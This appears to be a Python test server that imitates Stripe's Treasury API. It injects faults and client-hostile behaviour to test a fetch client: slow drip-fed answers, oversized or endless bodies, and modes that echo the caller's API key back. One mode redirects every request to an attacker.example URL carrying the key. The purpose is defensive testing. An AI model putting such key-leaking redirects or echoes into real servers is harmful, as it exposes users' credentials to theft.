#!/usr/bin/env python3
"""A Stripe-like HTTP server for the fetch tests: Treasury list and retrieve endpoints over generated dumps.

Serves the objects of a `treasury-gen` folder (`platform/` and `acct_*/` folders
of JSON-lines files) the way the Stripe API does: newest first, `limit` and
`starting_after` paging, `created[...]` and `transaction` filters, the
`Stripe-Account` header, bearer or basic authentication, a pinned
`Stripe-Version`, and parameters checked against the endpoint list in
stripe-endpoints.json (a copy of the Stripe OpenAPI extract; see README.md).

For tests of the client it injects faults on purpose: 429s, 500s, dropped
connections, answers cut short and answers slower than the client's timeout,
each with a given probability from a seeded random generator.

Hostile modes attack the client itself, on every answer: `--drip S` sends
the headers, then the body one byte every S seconds; `--declare-length N`
declares a body of N bytes and `--endless` sends a chunked body of unknown
length, both of filler, up to `--send-limit` bytes; `--echo-key PLACES`
sends the caller's API key back wherever a server could (see ECHO_PLACES).

`--as-of T --advance R` lets that time run R times faster than real time, so
that transactions settle and new objects appear while a fetch is reading.

`--as-of T` serves the world as it was at Unix time T: objects created before
T, transactions that settled later shown open (their balance_impact the sum of
their entries so far), balances as the sum of entries so far; `--now T` makes
the `Date` header tell that simulated time. An incremental fetch from an
`--as-of` server followed by one from the full server must equal one full fetch.

Prints the port it listens on (127.0.0.1, chosen by the system) on the first
line of stdout; with --log, appends one JSON line per request.
"""

import argparse
import base64
import copy
import email.utils
import http.server
import json
import os
import random
import socket
import sys
import threading
import time
import urllib.parse

LISTS = {
    "/v1/accounts": "account",
    "/v1/treasury/financial_accounts": "treasury.financial_account",
    "/v1/treasury/transactions": "treasury.transaction",
    "/v1/treasury/transaction_entries": "treasury.transaction_entry",
}
# Where `--echo-key` puts the key the request was authorised with.
ECHO_PLACES = {
    "request-id": "the Request-Id header of every answer",
    "version": "the Stripe-Version header of every answer",
    "error": "the message of every error answer (combine with --p500 or a refused request)",
    "text-error": "error answers are text/plain, with the key across their 200th byte",
    "description": "a description field in every object of a 2xx answer",
    "escaped": "the same, JSON-escaped (\\u005f for each underscore)",
    "id": "the id of every financial account listed",
    "location": "every answer is a 302 to a URL that holds the key",
}
RETRIEVE = {
    "/v1/treasury/financial_accounts/": ("treasury.financial_account", "/v1/treasury/financial_accounts/{financial_account}"),
    "/v1/treasury/transactions/": ("treasury.transaction", "/v1/treasury/transactions/{id}"),
    "/v1/treasury/transaction_entries/": ("treasury.transaction_entry", "/v1/treasury/transaction_entries/{id}"),
}


def read_objects(folder):
    """Every object in the JSON-lines files under folder (list pages unpacked), deduplicated like the tool does."""
    objects = {}
    rank = {"open": 0, "posted": 1, "void": 1}
    for name in sorted(os.listdir(folder)):
        path = os.path.join(folder, name)
        if not name.endswith(".jsonl") or not os.path.isfile(path):
            continue
        with open(path, encoding="utf-8") as f:
            for line in f:
                line = line.strip()
                if not line:
                    continue
                value = json.loads(line)
                items = value["data"] if value.get("object") == "list" else [value]
                for item in items:
                    old = objects.get(item["id"])
                    if old is None or rank.get(item.get("status"), 0) >= rank.get(old.get("status"), 0):
                        objects[item["id"]] = item
    return list(objects.values())


def project(objects, as_of):
    """The objects as they were at as_of (see the module doc)."""
    if as_of is None:
        return objects
    entries = [o for o in objects if o["object"] == "treasury.transaction_entry" and o["created"] < as_of]
    sums = {}
    totals = {}
    for e in entries:
        s = sums.setdefault(e["transaction"], {"cash": 0, "inbound_pending": 0, "outbound_pending": 0})
        t = totals.setdefault((e["financial_account"], e["currency"]), {"cash": 0, "inbound_pending": 0, "outbound_pending": 0})
        for k in s:
            s[k] += e["balance_impact"][k]
            t[k] += e["balance_impact"][k]
    out = list(entries)
    for o in objects:
        if o["object"] == "treasury.transaction":
            if o["created"] >= as_of:
                continue
            st = o.get("status_transitions") or {}
            if (st.get("posted_at") or 0) >= as_of or (st.get("void_at") or 0) >= as_of:
                o = copy.deepcopy(o)
                o["status"] = "open"
                o["status_transitions"] = {"posted_at": None, "void_at": None}
                o["balance_impact"] = sums.get(o["id"], {"cash": 0, "inbound_pending": 0, "outbound_pending": 0})
            out.append(o)
        elif o["object"] == "treasury.financial_account":
            if o["created"] >= as_of:
                continue
            o = copy.deepcopy(o)
            for part in ("cash", "inbound_pending", "outbound_pending"):
                for currency in list(o["balance"][part].keys()):
                    o["balance"][part][currency] = totals.get((o["id"], currency), {}).get(part, 0)
            out.append(o)
        elif o["object"] != "treasury.transaction_entry":
            out.append(o)
    return out


class World:
    """The served data per account folder (`platform` or `acct_…`), by object type, newest first."""

    def __init__(self, root, as_of, sources=None):
        self.accounts = {}
        self.sources = sources if sources is not None else {}
        for name in sorted(os.listdir(root)):
            path = os.path.join(root, name)
            if not os.path.isdir(path) or not (name == "platform" or name.startswith("acct_")):
                continue
            if name not in self.sources:
                self.sources[name] = read_objects(path)
            objects = project(self.sources[name], as_of)
            by_type = {}
            for o in objects:
                by_type.setdefault(o["object"], []).append(o)
            for items in by_type.values():
                items.sort(key=lambda o: (o.get("created", 0), o["id"]), reverse=True)
            self.accounts[name] = by_type
        connected = sorted(a for a in self.accounts if a != "platform")
        self.account_objects = [
            {"id": a, "object": "account", "created": 1700000000 + i, "type": "custom", "country": "US"}
            for i, a in enumerate(connected)
        ]
        self.account_objects.sort(key=lambda o: (o["created"], o["id"]), reverse=True)


class Drip:
    """Writes to `wfile` one byte at a time, `interval` seconds apart (a server that never quite stalls)."""

    def __init__(self, wfile, interval):
        self.wfile = wfile
        self.interval = interval

    def write(self, data):
        for i in range(len(data)):
            self.wfile.write(data[i:i + 1])
            self.wfile.flush()
            time.sleep(self.interval)
        return len(data)

    def flush(self):
        self.wfile.flush()


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "stripe-like-test-server"

    def log_message(self, *args):
        pass

    def date_time_string(self, timestamp=None):
        config = self.server.config
        if config.now is not None:
            speed = config.advance or 1
            return email.utils.formatdate(config.now + speed * (time.time() - config.started), usegmt=True)
        return super().date_time_string(timestamp)

    def do_GET(self):
        config = self.server.config
        parsed = urllib.parse.urlsplit(self.path)
        query = urllib.parse.parse_qsl(parsed.query, keep_blank_values=True)
        record = {"path": parsed.path, "query": query, "account": self.headers.get("Stripe-Account"),
                  "version": self.headers.get("Stripe-Version"), "fault": None, "status": None}
        self.token = self.bearer()
        try:
            if config.declare_length is not None or config.endless:
                self.send_filler(record)
                return
            if "location" in config.echo_key:
                record["status"] = 302
                self.send_response(302)
                self.send_header("Location", "https://attacker.example/collect?key=" + self.token)
                self.send_header("Content-Length", "0")
                self.send_header("Request-Id", self.request_id())
                self.end_headers()
                return
            if config.delay:
                time.sleep(config.delay)
            fault = self.server.pick_fault()
            record["fault"] = fault
            if fault == "drop":
                self.drop()
                return
            if fault == "slow":
                time.sleep(config.slow)
            if fault == "429":
                self.send_error_json(429, "rate_limit_error", "Too many requests hit the API too quickly.", record)
                return
            if fault == "500":
                headers = {"Stripe-Should-Retry": "false"} if config.no_retry_500 else {}
                self.send_error_json(500, "api_error", "Something went wrong on Stripe's end.", record, headers)
                return
            status, body = self.answer(parsed.path, query, record)
            if status >= 400 and "error" in body:
                self.send_error_json(status, body["error"].pop("type"), body["error"].pop("message"), record,
                                     extra=body["error"])
                return
            if 200 <= status < 300:
                body = self.echo_in_objects(body)
            data = (json.dumps(body, indent=2, ensure_ascii=False) + "\n").encode("utf-8")
            if 200 <= status < 300 and "escaped" in config.echo_key and self.token:
                data = data.replace(self.token.encode(), self.token.replace("_", "\\u005f").encode())
            if fault == "truncate":
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data[: len(data) // 2])
                self.wfile.flush()
                self.drop()
                return
            record["status"] = status
            self.send_json(status, data)
        except (BrokenPipeError, ConnectionResetError):
            record["status"] = "client-gone"
        finally:
            self.server.log(record)

    def bearer(self):
        """The key the request was authorised with (what --echo-key sends back)."""
        auth = self.headers.get("Authorization", "")
        if auth.startswith("Bearer "):
            return auth[7:]
        if auth.startswith("Basic "):
            try:
                return base64.b64decode(auth[6:]).decode().rstrip(":")
            except ValueError:
                return ""
        return ""

    def request_id(self):
        suffix = "_" + self.token if "request-id" in self.server.config.echo_key else ""
        return "req_%d%s" % (self.server.next_id(), suffix)

    def echo_in_objects(self, body):
        """The key in a description of every object (--echo-key description/escaped) and as financial account ids (id)."""
        places = self.server.config.echo_key
        if not self.token or not places & {"description", "escaped", "id"}:
            return body
        body = copy.deepcopy(body)
        items = body["data"] if body.get("object") == "list" else [body]
        for item in items:
            if places & {"description", "escaped"}:
                item["description"] = "note for " + self.token
            if "id" in places and item.get("object") == "treasury.financial_account":
                item["id"] = self.token
        return body

    def send_filler(self, record):
        """An answer of filler that is too big: declared (--declare-length) or chunked without end (--endless)."""
        config = self.server.config
        record["status"] = 200
        record["sent"] = 0
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Stripe-Version", config.version)
        self.send_header("Request-Id", self.request_id())
        if config.endless:
            self.send_header("Transfer-Encoding", "chunked")
        else:
            self.send_header("Content-Length", str(config.declare_length))
        self.end_headers()
        head = b'{"object": "list", "data": [], "has_more": false, "url": "/", "pad": "'
        tail = b'"}\n'
        total = config.send_limit if config.endless else config.declare_length
        left = total - len(head) - len(tail)
        chunk = b"x" * (1 << 20)
        pieces = [head]
        while record["sent"] < config.send_limit and pieces:
            piece = pieces.pop()
            if config.endless:
                self.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))
            else:
                self.wfile.write(piece)
            record["sent"] += len(piece)
            if left > 0:
                pieces.append(chunk[:min(len(chunk), left)])
                left -= len(pieces[-1])
            elif piece is not tail:
                pieces.append(tail)
        if config.endless:
            self.wfile.write(b"0\r\n\r\n")
            self.wfile.flush()
        else:
            # Less than declared: the client sees the connection end early.
            self.wfile.flush()
            self.drop()

    def drop(self):
        self.close_connection = True
        try:
            self.connection.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass

    def send_json(self, status, data, headers=None):
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        echoed = "version" in self.server.config.echo_key and self.token
        self.send_header("Stripe-Version", self.token if echoed else self.server.config.version)
        self.send_header("Request-Id", self.request_id())
        for k, v in (headers or {}).items():
            self.send_header(k, v)
        self.end_headers()
        (Drip(self.wfile, self.server.config.drip) if self.server.config.drip else self.wfile).write(data)

    def send_error_json(self, status, kind, message, record, headers=None, code=None, param=None, extra=None):
        places = self.server.config.echo_key
        if "text-error" in places:
            record["status"] = status
            text = ("x" * 180 + self.token + " was used\n").encode()
            self.send_response(status)
            self.send_header("Content-Type", "text/plain")
            self.send_header("Content-Length", str(len(text)))
            self.send_header("Request-Id", self.request_id())
            for k, v in (headers or {}).items():
                self.send_header(k, v)
            self.end_headers()
            self.wfile.write(text)
            return
        if "error" in places and self.token:
            message = "%s (request made with %s)" % (message, self.token)
        error = {"type": kind, "message": message}
        if code:
            error["code"] = code
        if param:
            error["param"] = param
        error.update(extra or {})
        record["status"] = status
        self.send_json(status, (json.dumps({"error": error}, indent=2) + "\n").encode("utf-8"), headers)

    def authorized(self):
        auth = self.headers.get("Authorization", "")
        key = self.server.config.key
        if auth == "Bearer " + key:
            return True
        if auth.startswith("Basic "):
            try:
                return base64.b64decode(auth[6:]).decode() == key + ":"
            except ValueError:
                return False
        return False

    def answer(self, path, query, record):
        config = self.server.config
        world = self.server.current_world()
        if not self.authorized():
            masked = self.headers.get("Authorization", "")[-4:]
            return 401, {"error": {"type": "invalid_request_error",
                                   "message": "Invalid API Key provided: sk_test_****" + masked}}
        if record["version"] != config.version:
            return 400, {"error": {"type": "invalid_request_error",
                                   "message": "Invalid Stripe API version: %s" % record["version"]}}
        account = record["account"]
        folder = account or "platform"
        if account is not None and account not in world.accounts:
            return 403, {"error": {"type": "invalid_request_error",
                                   "message": "The provided key does not have access to account '%s'." % account}}
        data = world.accounts.get(folder, {})
        if path in LISTS:
            spec_path = path
        else:
            spec_path = next((template for prefix, (_, template) in RETRIEVE.items() if path.startswith(prefix)), None)
        if spec_path is None or spec_path not in self.server.endpoints:
            return 404, {"error": {"type": "invalid_request_error", "message": "Unrecognized request URL (GET: %s)." % path}}
        params = {}
        allowed = self.server.endpoints[spec_path]
        for name, value in query:
            base = name.split("[", 1)[0]
            if base not in allowed["names"]:
                return 400, {"error": {"type": "invalid_request_error", "code": "parameter_unknown", "param": name,
                                       "message": "Received unknown parameter: %s" % name}}
            params[name] = value
        if path in LISTS:
            for required in allowed["required"]:
                if required not in params:
                    return 400, {"error": {"type": "invalid_request_error", "code": "parameter_missing",
                                           "param": required, "message": "Missing required param: %s." % required}}
            if path == "/v1/accounts":
                if account is not None:
                    return 400, {"error": {"type": "invalid_request_error",
                                           "message": "Only a platform can list its connected accounts."}}
                items = world.account_objects
            else:
                items = data.get(LISTS[path], [])
            return 200, self.page(path, items, params)
        object_type = next(t for prefix, (t, _) in RETRIEVE.items() if path.startswith(prefix))
        wanted = path.rsplit("/", 1)[1]
        for o in data.get(object_type, []):
            if o["id"] == wanted:
                return 200, o
        return 404, {"error": {"type": "invalid_request_error", "code": "resource_missing",
                               "message": "No such object: '%s'" % wanted}}

    def page(self, path, items, params):
        config = self.server.config
        if "starting_after" in params and "ending_before" in params:
            raise ValueError("both cursors")
        if "financial_account" in params:
            items = [o for o in items if o.get("financial_account") == params["financial_account"]]
        if "transaction" in params:
            items = [o for o in items if o.get("transaction") == params["transaction"]]
        for op, test in (("gte", lambda a, b: a >= b), ("gt", lambda a, b: a > b),
                         ("lte", lambda a, b: a <= b), ("lt", lambda a, b: a < b)):
            key = "created[%s]" % op
            if key in params:
                bound = int(params[key])
                items = [o for o in items if test(o.get("created", 0), bound)]
        limit = int(params.get("limit", "10"))
        if not 1 <= limit <= 100:
            limit = 10
        start = 0
        cursor = params.get("starting_after")
        if cursor and not config.stuck_cursor:
            ids = [o["id"] for o in items]
            if cursor not in ids:
                start = len(items)
            else:
                start = ids.index(cursor) + 1
        chunk = items[start:start + limit]
        return {"object": "list", "data": chunk, "has_more": start + limit < len(items), "url": path}


class Server(http.server.ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True

    def __init__(self, config):
        super().__init__(("127.0.0.1", config.port), Handler)
        self.config = config
        self.world = World(config.data, config.as_of)
        self.world_as_of = config.as_of
        with open(config.endpoints, encoding="utf-8") as f:
            spec = json.load(f)
        self.endpoints = {}
        for endpoint in spec["endpoints"]:
            names = {p["name"] for p in endpoint["parameters"] if p["in"] == "query"}
            required = [p["name"] for p in endpoint["parameters"] if p["in"] == "query" and p.get("required")]
            self.endpoints[endpoint["path"]] = {"names": names, "required": required}
        self.random = random.Random(config.seed)
        self.lock = threading.Lock()
        self.counter = 0
        self.log_file = open(config.log, "a", encoding="utf-8") if config.log else None

    def current_world(self):
        """The world now; with --advance, the simulated clock moves on and the world with it."""
        config = self.config
        if not config.advance:
            return self.world
        as_of = int(config.as_of + config.advance * (time.time() - config.started))
        with self.lock:
            if self.world_as_of != as_of:
                self.world = World(config.data, as_of, self.world.sources)
                self.world_as_of = as_of
            return self.world

    def pick_fault(self):
        config = self.config
        with self.lock:
            r = self.random.random()
        for name, p in (("429", config.p429), ("500", config.p500), ("drop", config.pdrop),
                        ("truncate", config.ptruncate), ("slow", config.pslow)):
            if r < p:
                return name
            r -= p
        return None

    def next_id(self):
        with self.lock:
            self.counter += 1
            return self.counter

    def log(self, record):
        if self.log_file:
            with self.lock:
                self.log_file.write(json.dumps(record) + "\n")
                self.log_file.flush()


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--data", required=True, help="folder of platform/ and acct_*/ dumps (treasury-gen output)")
    parser.add_argument("--key", required=True, help="the only API key accepted")
    parser.add_argument("--version", default="2026-07-29.dahlia", help="the Stripe-Version requests must send")
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--as-of", type=int, help="serve the data as it was at this Unix time")
    parser.add_argument("--now", type=int, help="the Unix time the Date header starts at")
    parser.add_argument("--advance", type=float, default=0,
                        help="with --as-of: simulated seconds per real second (the data changes during a fetch)")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--p429", type=float, default=0)
    parser.add_argument("--p500", type=float, default=0)
    parser.add_argument("--pdrop", type=float, default=0)
    parser.add_argument("--ptruncate", type=float, default=0)
    parser.add_argument("--pslow", type=float, default=0)
    parser.add_argument("--slow", type=float, default=3.0, help="seconds a slow answer takes")
    parser.add_argument("--delay", type=float, default=0, help="seconds every answer takes")
    parser.add_argument("--no-retry-500", action="store_true", help="injected 500s say Stripe-Should-Retry: false")
    parser.add_argument("--stuck-cursor", action="store_true", help="ignore starting_after (a broken cursor)")
    parser.add_argument("--drip", type=float, default=0,
                        help="send the body of every answer one byte every DRIP seconds (the headers at once)")
    parser.add_argument("--declare-length", type=int,
                        help="every answer declares a body of this many bytes and sends filler")
    parser.add_argument("--endless", action="store_true",
                        help="every answer is a chunked body of filler with no declared length")
    parser.add_argument("--send-limit", type=int, default=256 << 20,
                        help="bytes of filler sent at most (--declare-length, --endless)")
    parser.add_argument("--echo-key", default="",
                        help="comma-separated places to send the caller's key back: " + ", ".join(ECHO_PLACES))
    parser.add_argument("--endpoints", default=os.path.join(here, "stripe-endpoints.json"))
    parser.add_argument("--log", help="append one JSON line per request to this file")
    config = parser.parse_args()
    config.echo_key = {p for p in config.echo_key.split(",") if p}
    unknown = config.echo_key - set(ECHO_PLACES)
    if unknown:
        parser.error("unknown --echo-key places: " + ", ".join(sorted(unknown)))
    config.started = time.time()
    server = Server(config)
    print(server.server_address[1], flush=True)
    try:
        server.serve_forever(poll_interval=0.1)
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
